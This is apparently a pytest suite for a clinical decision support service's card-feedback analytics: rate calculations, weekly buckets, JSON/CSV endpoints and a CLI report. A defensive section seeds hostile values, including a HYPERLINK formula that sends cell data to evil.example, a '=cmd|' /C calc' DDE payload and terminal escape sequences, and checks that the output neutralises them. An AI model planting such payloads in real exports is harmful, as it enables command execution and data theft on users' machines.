"""Feedback analytics on SQLite and PostgreSQL: the queries, the JSON/CSV endpoints and
`cds-service report`. One hand-built data set whose every figure is known in advance."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
import sqlalchemy as sa

from cds_service import cli
from cds_service.analytics import MAX_PERIOD_DAYS, Period, PeriodError, build_report, main
from cds_service.store import ServedCard, Store
from cds_service.tables import served_cards

PV, OS = "lbp-patient-view", "lbp-imaging-order-select"
SINCE, UNTIL = "2026-03-02", "2026-03-15"  # two whole ISO weeks (Monday to Sunday)
REASON_SYSTEM = "http://example.org/fhir/lbp-cds/CodeSystem/override-reason"


def at(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


def serve(store: Store, card: str, service: str, topic: str, when: str) -> None:
    hook = "patient-view" if service == PV else "order-select"
    store.record_served([ServedCard(card, service, hook, f"hi-{card}", topic, "warning", (f"{card}-s1",))],
                        "patient-1", at(when))


def answer(store: Store, service: str, card: str, outcome: str, when: str, reason: str | None = None,
           comment: str | None = None) -> None:
    item: dict = {"card": card, "outcome": outcome, "outcomeTimestamp": when + "Z"}
    if outcome == "accepted":
        item["acceptedSuggestions"] = [{"id": f"{card}-s1"}]
    if reason or comment:
        item["overrideReason"] = {}
        if reason:
            item["overrideReason"]["reason"] = {"system": REASON_SYSTEM, "code": reason, "display": reason.title()}
        if comment:
            item["overrideReason"]["userComment"] = comment
    store.record_feedback(service, [item], at(when))


def seed(store: Store) -> None:
    """axspa-referral (patient-view): 4 cards in the period — accepted; overridden then accepted
    (latest wins); overridden with a comment; unanswered (its only feedback went to the wrong service).
    imaging-not-indicated (order-select): 1 card on the period's last minute, overridden without a
    comment. Outside the period: one card the minute before, one the minute after. Plus feedback for
    a card the service never served."""
    store.create_schema()
    serve(store, "a1", PV, "axspa-referral", "2026-03-02T00:00:00")
    answer(store, PV, "a1", "accepted", "2026-03-02T00:05:00")
    serve(store, "a2", PV, "axspa-referral", "2026-03-03T10:00:00")
    answer(store, PV, "a2", "overridden", "2026-03-03T10:01:00", reason="patient-declines")
    answer(store, PV, "a2", "accepted", "2026-03-03T10:09:00")
    serve(store, "a3", PV, "axspa-referral", "2026-03-09T09:00:00")
    answer(store, PV, "a3", "overridden", "2026-03-20T09:00:00", reason="alternative-diagnosis",
           comment="Hip osteoarthritis explains it")
    serve(store, "a4", PV, "axspa-referral", "2026-03-10T09:00:00")
    answer(store, OS, "a4", "accepted", "2026-03-10T09:05:00")  # service-mismatch: ignored
    serve(store, "b1", OS, "imaging-not-indicated", "2026-03-15T23:59:00")
    answer(store, OS, "b1", "overridden", "2026-03-16T00:03:00", reason="failed-conservative-care")
    serve(store, "b0", OS, "imaging-not-indicated", "2026-03-01T23:59:00")
    answer(store, OS, "b0", "accepted", "2026-03-02T00:01:00")
    serve(store, "b2", OS, "imaging-not-indicated", "2026-03-16T00:00:00")
    answer(store, OS, "b2", "accepted", "2026-03-16T00:01:00")
    answer(store, PV, "never-served", "accepted", "2026-03-05T12:00:00")


@pytest.fixture
def seeded_url(database_url: str) -> str:
    store = Store(database_url)
    seed(store)
    store.engine.dispose()
    return database_url


@pytest.fixture
def report(seeded_url: str):
    store = Store(seeded_url)
    try:
        yield build_report(store.engine, Period.parse(SINCE, UNTIL), None, {"axspa-referral": "AxSpA referral"})
    finally:
        store.engine.dispose()


def test_topics_latest_answer_and_rates(report) -> None:
    by_topic = {(t.service_id, t.topic): t for t in report.topics}
    assert set(by_topic) == {(PV, "axspa-referral"), (OS, "imaging-not-indicated")}
    axspa = by_topic[(PV, "axspa-referral")]
    assert (axspa.served, axspa.accepted, axspa.overridden, axspa.no_answer) == (4, 2, 1, 1)
    assert axspa.acceptance_rate == 0.5 and axspa.override_rate == 0.25
    assert axspa.display == "AxSpA referral"
    assert [(r.code, r.count) for r in axspa.reasons] == [("alternative-diagnosis", 1)]  # a2's override was superseded
    imaging = by_topic[(OS, "imaging-not-indicated")]
    assert (imaging.served, imaging.accepted, imaging.overridden) == (1, 0, 1)
    assert [(r.code, r.display, r.system, r.count) for r in imaging.reasons] == [
        ("failed-conservative-care", "Failed-Conservative-Care", REASON_SYSTEM, 1)]
    assert imaging.display == "imaging-not-indicated"  # no display known: the code
    totals = report.totals
    assert (totals.served, totals.accepted, totals.overridden, totals.no_answer) == (5, 2, 2, 1)
    assert report.unknown_card_feedback == 1
    assert [t.topic for t in report.topics] == ["axspa-referral", "imaging-not-indicated"]  # most served first


def test_weekly_buckets_and_comments(report) -> None:
    weeks = [(w.week_start.isoformat(), w.served, w.accepted, w.overridden, w.partial) for w in report.weeks]
    assert weeks == [("2026-03-02", 2, 2, 0, False), ("2026-03-09", 3, 0, 2, False)]
    assert [(w.served, w.overridden) for w in report.weeks_by_topic["imaging-not-indicated"]] == [(0, 0), (1, 1)]
    assert [(c.topic, c.reason_code, c.comment) for c in report.comments] == [
        ("axspa-referral", "alternative-diagnosis", "Hip osteoarthritis explains it")]
    assert report.comments[0].outcome_timestamp == at("2026-03-20T09:00:00")


def test_service_filter_and_partial_weeks(seeded_url: str) -> None:
    store = Store(seeded_url)
    try:
        only = build_report(store.engine, Period.parse("2026-03-04", "2026-03-16"), OS)
    finally:
        store.engine.dispose()
    assert [(t.service_id, t.topic, t.served, t.accepted, t.overridden) for t in only.topics] == [
        (OS, "imaging-not-indicated", 2, 1, 1)]
    assert [(w.week_start.isoformat(), w.partial) for w in only.weeks] == [
        ("2026-03-02", True), ("2026-03-09", False), ("2026-03-16", True)]
    assert only.unknown_card_feedback == 0  # the unknown card's feedback went to the patient-view service


def test_empty_database_reports_zero(tmp_path: Path) -> None:
    store = Store(f"sqlite:///{tmp_path / 'empty.sqlite3'}")
    report = build_report(store.engine, Period.parse(SINCE, UNTIL))
    assert report.database_ready is False and report.topics == [] and report.totals.served == 0
    assert report.as_json()["totals"]["acceptanceRate"] is None
    assert "nothing served" in report.to_text()


@pytest.mark.parametrize(
    ("since", "until", "message"),
    [("2026-03-10", "2026-03-01", "after"), ("03/01/2026", None, "since"), (None, "tomorrow", "until"),
     ("2020-01-01", "2026-01-01", str(MAX_PERIOD_DAYS))],
)
def test_period_errors(since: str | None, until: str | None, message: str) -> None:
    with pytest.raises(PeriodError, match=message):
        Period.parse(since, until, today=date(2026, 11, 21))


def test_period_defaults() -> None:
    period = Period.parse(None, None, today=date(2026, 11, 21))
    assert (period.since, period.until) == (date(2026, 8, 24), date(2026, 11, 21))
    assert period.end == at("2026-11-22T00:00:00")


# --------------------------------------------------------------------------------------------
# JSON and CSV endpoints
# --------------------------------------------------------------------------------------------


def test_json_endpoint_matches_the_report(make_app, seeded_url: str) -> None:
    client = make_app(database_url=seeded_url).test_client()
    body = client.get(f"/console/api/analytics?since={SINCE}&until={UNTIL}").get_json()
    assert body["period"] == {"since": SINCE, "until": UNTIL}
    assert body["totals"] == {"served": 5, "accepted": 2, "overridden": 2, "noAnswer": 1, "acceptanceRate": 0.4,
                              "overrideRate": 0.4, "unknownCardFeedback": 1, "servedRows": 5,
                              "silentWouldHaveShown": 0, "suppressed": 0}
    axspa = next(t for t in body["topics"] if t["topic"] == "axspa-referral")
    assert axspa["display"].startswith("Suspected axial spondyloarthritis")  # from the card files
    assert (axspa["served"], axspa["accepted"], axspa["acceptanceRate"]) == (4, 2, 0.5)
    assert [w["served"] for w in body["weeks"]] == [2, 3]
    assert body["comments"][0]["comment"] == "Hip osteoarthritis explains it"
    assert {s["id"] for s in body["services"]} == {PV, OS, "lbp-imaging-order-sign"}
    filtered = client.get(f"/console/api/analytics?since={SINCE}&until={UNTIL}&service={OS}").get_json()
    assert [t["topic"] for t in filtered["topics"]] == ["imaging-not-indicated"]


def test_json_endpoint_rejects_bad_periods(make_app) -> None:
    client = make_app().test_client()
    response = client.get("/console/api/analytics?since=2026-13-01")
    assert response.status_code == 400 and "since" in response.get_json()["message"]
    assert client.get("/console/api/analytics").status_code == 200  # default: the last 90 days


def test_csv_endpoint(make_app, seeded_url: str) -> None:
    response = make_app(database_url=seeded_url).test_client().get(
        f"/console/api/analytics.csv?since={SINCE}&until={UNTIL}")
    assert response.mimetype == "text/csv"
    assert f"card-feedback-{SINCE}-{UNTIL}.csv" in response.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert [(r["service_id"], r["topic"], r["served"], r["accepted"], r["acceptance_rate"]) for r in rows] == [
        (PV, "axspa-referral", "4", "2", "0.5"), (OS, "imaging-not-indicated", "1", "0", "0.0")]
    assert rows[0]["override_reasons"] == "Alternative-Diagnosis (1)"


# --------------------------------------------------------------------------------------------
# cds-service report
# --------------------------------------------------------------------------------------------


def test_cli_report_prints_and_writes_csv(seeded_url: str, tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    out = tmp_path / "out" / "report.csv"
    code = cli.main(["report", "--since", SINCE, "--until", UNTIL, "--database-url", seeded_url, "--csv", str(out)])
    assert code == 0
    printed = capsys.readouterr().out
    assert f"cards served {SINCE} to {UNTIL}" in printed
    axspa_line = next(line for line in printed.splitlines() if "axspa-referral" in line and PV in line)
    assert axspa_line.split()[2:] == ["4", "2", "1", "1", "50.0", "25.0", "0", "0", "4"]
    assert "Alternative-Diagnosis" in printed and "Hip osteoarthritis explains it" in printed
    assert "2026-03-09" in printed
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert {r["topic"] for r in rows} == {"axspa-referral", "imaging-not-indicated"}
    assert all(r["since"] == SINCE and r["until"] == UNTIL for r in rows)


def test_cli_report_json_and_errors(seeded_url: str, capsys: pytest.CaptureFixture) -> None:
    assert main(["--since", SINCE, "--until", UNTIL, "--database-url", seeded_url, "--json"]) == 0
    assert '"served": 5' in capsys.readouterr().out
    assert main(["--since", "yesterday", "--database-url", seeded_url]) == 2
    assert "since" in capsys.readouterr().err
    with pytest.raises(SystemExit):
        main([])  # --since is required


# --------------------------------------------------------------------------------------------
# Spreadsheet and terminal injection (issue 15 items 5, 6)
# --------------------------------------------------------------------------------------------

HOSTILE_DISPLAY = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
HOSTILE_COMMENT = "\x1b[2J\x1b]0;owned\x07ok\u202etxt\x9b31m"


def _seed_hostile(store: Store) -> None:
    store.create_schema()
    for card, display in (("h1", HOSTILE_DISPLAY), ("h2", "+1+1"), ("h3", "-2"), ("h4", "@SUM(A1)"),
                          ("h5", "\tTab"), ("h6", "Plain")):
        serve(store, card, PV, "axspa-referral", "2026-03-03T10:00:00")
        item = {"card": card, "outcome": "overridden", "outcomeTimestamp": "2026-03-03T10:05:00Z",
                "overrideReason": {"reason": {"system": REASON_SYSTEM, "code": card, "display": display}}}
        if card == "h1":
            item["overrideReason"]["userComment"] = HOSTILE_COMMENT
        store.record_feedback(PV, [item], at("2026-03-03T10:05:00"))
    serve(store, "h7", PV, "=cmd|' /C calc'!A0", "2026-03-03T10:00:00")  # a hostile topic code too


def test_csv_cells_are_neutralised(database_url: str, make_app) -> None:
    store = Store(database_url)
    _seed_hostile(store)
    csv_text = build_report(store.engine, Period.parse(SINCE, UNTIL)).to_csv()
    store.engine.dispose()
    served = make_app(database_url=database_url).test_client().get(
        f"/console/api/analytics.csv?since={SINCE}&until={UNTIL}").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(csv_text)))
    header, body = rows[0], rows[1:]
    for text in (csv_text, served):
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert len(cells) == len(rows) * len(header)
        assert not [c for c in cells if c and c[0] in "=+-@\t\r"], cells
    reasons = body[[r[3] for r in body].index("axspa-referral")][header.index("override_reasons")]
    assert reasons.startswith("'")  # the first reason's display began with a trigger
    assert "'=cmd|' /C calc'!A0" in [r[3] for r in body]
    assert sorted(r[header.index("served")] for r in body) == ["1", "6"]  # numbers stay numbers
    for line in csv_text.splitlines()[1:]:
        assert line.startswith('"2026-03-02"')  # text cells quoted


def test_terminal_report_has_no_control_characters(database_url: str, capsys: pytest.CaptureFixture) -> None:
    store = Store(database_url)
    _seed_hostile(store)
    store.engine.dispose()
    assert main(["--since", SINCE, "--until", UNTIL, "--database-url", database_url]) == 0
    printed = capsys.readouterr().out
    assert "ok" in printed and "owned" in printed  # the text stays, the controls go
    assert not [ch for ch in printed if ch != "\n" and (ord(ch) < 32 or 0x7F <= ord(ch) <= 0x9F)]
    assert "\u202e" not in printed
    assert main(["--since", SINCE, "--until", UNTIL, "--database-url", database_url, "--json"]) == 0
    assert "\x1b" not in capsys.readouterr().out


# --------------------------------------------------------------------------------------------
# De-duplicated presentations (issue 17 item 4) and receive-time ordering (issue 15 item 4)
# --------------------------------------------------------------------------------------------


def _order_card(card: str, hook_instance: str, order: str, encounter: str | None = None) -> ServedCard:
    return ServedCard(card, OS, "order-select", hook_instance, "imaging-not-indicated", "warning", (f"{card}-s1",),
                      order_reference=f"ServiceRequest/{order}", encounter_id=encounter)


def test_repeated_cards_for_one_order_are_one_presentation(database_url: str) -> None:
    store = Store(database_url)
    store.create_schema()
    when = at("2026-03-04T09:00:00")
    # the sandbox re-sends order-select on every edit: three cards for one MRI order in one hook instance
    store.record_served([_order_card("r1", "hi-1", "mri")], "p1", when)
    store.record_served([_order_card("r2", "hi-1", "mri")], "p1", when)
    store.record_served([_order_card("r3", "hi-1", "mri")], "p1", when)
    # the same order in another hook instance of the same encounter: still the same presentation
    store.record_served([_order_card("r4", "hi-2", "mri", encounter="enc-1"),
                         _order_card("r5", "hi-3", "mri", encounter="enc-1")], "p1", when)
    # another order, and the same order in another hook instance without an encounter: separate
    store.record_served([_order_card("r6", "hi-1", "ct")], "p1", when)
    store.record_served([_order_card("r7", "hi-9", "mri")], "p1", when)
    answer(store, OS, "r2", "overridden", "2026-03-04T09:01:00", reason="patient-specific")
    answer(store, OS, "r3", "accepted", "2026-03-04T09:02:00")  # same presentation, answered last: accepted
    answer(store, OS, "r5", "overridden", "2026-03-04T09:03:00", reason="already-referred")
    report = build_report(store.engine, Period.parse(SINCE, UNTIL))
    with store.engine.connect() as conn:
        raw = conn.execute(sa.select(sa.func.count()).select_from(served_cards)).scalar_one()
    store.engine.dispose()
    [topic] = report.topics
    assert raw == 7 and topic.served_rows == 7  # the raw rows stay
    assert (topic.served, topic.accepted, topic.overridden, topic.no_answer) == (4, 1, 1, 2)
    assert [(r.code, r.count) for r in topic.reasons] == [("already-referred", 1)]
    assert [w.served for w in report.weeks] == [4, 0]


def test_latest_answer_is_the_last_received_not_the_latest_claimed(database_url: str) -> None:
    store = Store(database_url)
    store.create_schema()
    serve(store, "t1", PV, "axspa-referral", "2026-03-04T09:00:00")
    store.record_feedback(PV, [{"card": "t1", "outcome": "overridden", "outcomeTimestamp": "2099-12-31T00:00:00Z"}],
                          at("2026-03-04T09:01:00"))
    store.record_feedback(PV, [{"card": "t1", "outcome": "accepted", "acceptedSuggestions": [{"id": "t1-s1"}],
                                "outcomeTimestamp": "2026-03-04T09:00:30Z"}], at("2026-03-04T09:02:00"))
    [topic] = build_report(store.engine, Period.parse(SINCE, UNTIL)).topics
    store.engine.dispose()
    assert (topic.accepted, topic.overridden) == (1, 0)


# --------------------------------------------------------------------------------------------
# Alert burden (issue 17 item 2): shown, silent (would have shown), suppressed, per topic and period
# --------------------------------------------------------------------------------------------


def test_alert_burden_in_report_json_and_csv(database_url: str, capsys: pytest.CaptureFixture,
                                             tmp_path: Path) -> None:
    store = Store(database_url)
    store.create_schema()
    when = at("2026-03-10T08:00:00")
    for i, disposition in enumerate(["shown", "shown", "silent", "silent", "silent", "suppressed"]):
        store.record_served([ServedCard(f"d{i}", PV, "patient-view", f"hi-d{i}", "axspa-referral", "info",
                                        (f"d{i}-s1",), disposition=disposition)], "p1", when)
    answer(store, PV, "d0", "overridden", "2026-03-10T08:01:00", reason="patient-declines")
    answer(store, PV, "d2", "accepted", "2026-03-10T08:01:00")  # a silent card cannot be answered for real
    store.engine.dispose()
    out = tmp_path / "burden.csv"
    assert main(["--since", SINCE, "--until", UNTIL, "--database-url", database_url, "--csv", str(out)]) == 0
    printed = capsys.readouterr().out
    line = next(row for row in printed.splitlines() if row.strip().startswith(PV))
    # served accepted overridden no-answer accepted% overridden% silent suppressed rows
    assert line.split()[2:] == ["2", "0", "1", "1", "0.0", "50.0", "3", "1", "2"]
    burden = printed.split("Alert burden by topic and week")[1]
    assert burden.split("\n")[3].split() == ["axspa-referral", "2026-03-09", "2", "3", "1", "0", "1"]
    [row] = list(csv.DictReader(out.open(encoding="utf-8")))
    assert (row["served"], row["silent_would_have_shown"], row["suppressed"]) == ("2", "3", "1")
    assert main(["--since", SINCE, "--until", UNTIL, "--database-url", database_url, "--json"]) == 0
    topic = json.loads(capsys.readouterr().out)["topics"][0]
    assert (topic["served"], topic["silentWouldHaveShown"], topic["suppressed"], topic["overridden"]) == (2, 3, 1, 1)
